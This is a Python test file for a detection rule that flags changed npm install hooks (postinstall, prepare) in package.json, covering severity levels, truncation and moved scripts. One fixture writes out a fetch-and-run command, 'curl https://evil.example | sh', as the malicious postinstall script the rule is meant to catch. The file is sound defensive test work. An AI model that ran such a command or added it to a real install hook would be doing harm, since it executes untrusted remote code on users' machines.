from __future__ import annotations

import msgspec

from fimci.model import Place
from fimci.rules import install_script_changed as rule
from tests.rules.stated import said, script


def test_another_command_under_the_same_name() -> None:
    found = said(rule, [script("node a.js")], [script("curl https://evil.example | sh")])
    told = "postinstall script changed: node a.js → curl https://evil.example | sh"
    assert found == [f"package.json:3: high: {told}"]


def test_both_commands_are_cut() -> None:
    found = said(rule, [script("x" * 5000)], [script("y" * 5000)])
    assert len(found[0]) < 320


def test_a_hook_manager_renews_its_command() -> None:
    found = said(rule, [script("husky install", "prepare")], [script("husky", "prepare")])
    assert found == ["package.json:3: low: prepare script changed: husky install → husky"]


def test_a_moved_script_has_not_changed() -> None:
    before = script("node build.js")
    assert said(rule, [before], [msgspec.structs.replace(before, at=Place("package.json", 99))]) == []


def test_other_capabilities_are_not_its_business() -> None:
    before = msgspec.structs.replace(script("a"), name="network")
    assert said(rule, [before], [msgspec.structs.replace(before, detail="b")]) == []
